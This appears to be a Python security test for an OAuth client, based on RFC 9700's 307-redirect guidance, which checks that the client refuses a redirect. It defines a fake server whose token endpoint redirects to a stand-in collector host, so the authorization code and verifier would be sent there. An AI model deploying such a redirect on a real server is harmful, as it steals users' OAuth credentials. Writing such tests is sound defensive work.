"""The endpoint that is sent the code leads on to another one, which would be sent the code and the verifier.

Source: RFC 9700, 4.12, 307 redirect.
Seen: it is not followed.
"""

from dataclasses import replace

from login import EVIL, Answer, LoginServer, shown


class Attack(LoginServer):
    def answer(self, asked):
        if asked.path.endswith("/token"):
            self.asked.append(asked)
            return Answer(307, headers={"location": "https://collector.evil.example/token"})
        return super().answer(asked)


SEEN = replace(shown(f"{EVIL}/authorize?"), refused="307")
